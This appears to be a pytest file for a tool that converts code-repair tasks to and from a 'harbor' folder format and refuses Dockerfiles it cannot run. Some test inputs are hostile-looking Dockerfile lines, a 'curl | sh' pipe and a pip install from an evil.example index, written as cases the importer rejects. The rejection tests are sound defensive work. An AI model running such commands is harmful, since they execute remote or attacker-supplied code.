import re

import msgspec
import pytest
from tests.cycle.importing.coding.repairs import RIGHT, repair

from banbury.cycle.source.importing.coding import export_code, import_code
from banbury.cycle.source.importing.coding.harbor import harbor_task
from banbury.cycle.source.importing.coding.harbor.plain import plain
from banbury.cycle.source.importing.coding.harbor.trial import tried
from banbury.cycle.source.importing.coding.harbor.writing import unpacked
from banbury.errors import InputError
from banbury.formats.harbor import Config, HarborTask, read_task, write_task
from banbury.gyms.code_repair.actions import Edit, Submit
from banbury.gyms.code_repair.building.making import running
from banbury.gyms.code_repair.repair import key_of, repair_of
from banbury.gyms.code_write.gym import CodeWriteGym


@pytest.fixture
def problem(tmp_path):
    return repair(tmp_path / "project")


@pytest.fixture
def folder(problem, tmp_path):
    write_task(harbor_task(problem), tmp_path / "one")
    return read_task(tmp_path / "one")


def test_the_exported_scripts_give_one_with_the_solution_and_nothing_without(problem, folder):
    recipe = repair_of(problem).recipe
    archive = unpacked(folder.environment["tree.tar.gz"])
    assert tried(folder, archive, recipe, solved=True).reward == 1.0
    assert tried(folder, archive, recipe, solved=False).reward == 0.0


def test_a_solution_that_edits_is_exported_whole(problem):
    edit = [Edit("shop/prices.py", "prices[1:]", "prices"), Submit()]
    solution = msgspec.json.encode(edit).decode()
    secret = msgspec.structs.replace(problem.secret, solution=solution)
    task = harbor_task(msgspec.structs.replace(problem, secret=secret))
    assert task.solution["fixed/shop/prices.py"].decode() == RIGHT
    archive = unpacked(task.environment["tree.tar.gz"])
    assert tried(task, archive, repair_of(problem).recipe, solved=True).reward == 1.0


def test_a_function_to_write_is_no_harbor_task():
    gym = CodeWriteGym()
    with pytest.raises(InputError, match="code_write"):
        harbor_task(next(gym.tasks("code_write.text", seed=1)))


def test_our_own_folder_comes_back_as_the_same_task(lab, house, problem, tmp_path):
    lab.put_tasks([problem])
    export_code(lab, tmp_path / "out", "harbor")
    other = house.lab(f"{lab.name}-other")
    got = import_code(other, tmp_path / "out")
    assert (got.format, got.new) == ("harbor", 1)
    back = other.problem(problem.task.id)
    assert back.task.public == problem.task.public
    assert key_of(back) == key_of(problem)
    assert back.task.licence == "MIT"
    assert import_code(other, tmp_path / "out").there == 1


@pytest.mark.parametrize(
    ("dockerfile", "why"),
    [
        ("FROM ubuntu:24.04\n", "its image is ubuntu:24.04, which needs a container engine"),
        ("FROM python:2.7-slim\nWORKDIR /app\n", "Python 2.7, and this is Python 3"),
        (
            "FROM python:PY\nRUN apt-get update && \\\n  apt-get install -y gcc\n",
            "RUN apt-get update",
        ),
        ("FROM python:PY AS a\nFROM a\n", "several stages"),
        ("FROM python:PY\nRUN curl https://x.example | sh\n", "RUN curl"),
        ("FROM python:PY\nWORKDIR /app\nCOPY missing.py .\n", "'missing.py', which is not there"),
        ("FROM python:PY\nRUN pip install -i http://evil.example/simple x\n", "elsewhere than the"),
        ("FROM python:PY\nCOPY a.py /etc/\nWORKDIR /app\n", "outside of /app"),
        ("FROM python:PY\nUSER nobody\n", "USER nobody"),
        ("FROM python:PY\n", "sets no WORKDIR"),
    ],
)
def test_what_needs_a_container_engine_is_refused_by_name(lab, tmp_path, dockerfile, why):
    files = {"Dockerfile": dockerfile.replace(":PY", f":{running()}").encode(), "a.py": b"x = 1\n"}
    tests = {"test.sh": b"pytest /tests", "test_a.py": b"def test_a():\n    assert 1\n"}
    write_task(HarborTask(Config(), "Do it.", files, tests), tmp_path / "one")
    with pytest.raises(InputError, match=re.escape(why)):
        import_code(lab, tmp_path / "one")


def test_tests_that_are_no_pytest_are_refused(lab, tmp_path):
    files = {"Dockerfile": f"FROM python:{running()}-slim\nWORKDIR /app\n".encode()}
    write_task(HarborTask(Config(), "Do it.", files, {"test.sh": b"exit 0"}), tmp_path / "one")
    with pytest.raises(InputError, match=r"runs no test_\*\.py"):
        import_code(lab, tmp_path / "one")


def test_a_folder_whose_solution_is_wrong_is_refused(lab, problem, tmp_path):
    task = harbor_task(problem)
    wrong = {**task.solution, "fixed/shop/prices.py": b"def total(prices):\n    return 7\n"}
    write_task(msgspec.structs.replace(task, solution=wrong), tmp_path / "one")
    with pytest.raises(InputError, match="its own solution does not pass"):
        import_code(lab, tmp_path / "one")


def test_what_a_plain_image_is_made_of():
    context = {
        "Dockerfile": b"# one\nFROM python:%s-slim-bookworm\nWORKDIR /app\n"
        b"ENV A=1 B='two words'\n"
        b"COPY requirements.txt ./\nRUN pip install --no-cache-dir -r requirements.txt 'x>=2'\n"
        b'COPY src/ src/\nRUN mkdir -p out\nCMD ["python"]\n' % running().encode(),
        "requirements.txt": b"# first\nclick==8.1.7\n",
        "src/a/b.py": b"1",
    }
    made = plain(context)
    assert made.workdir == "/app"
    assert set(made.files) == {"/app/requirements.txt", "/app/src/a/b.py"}
    assert made.wants == ["click==8.1.7", "x>=2"]
    assert made.env == {"A": "1", "B": "two words"}
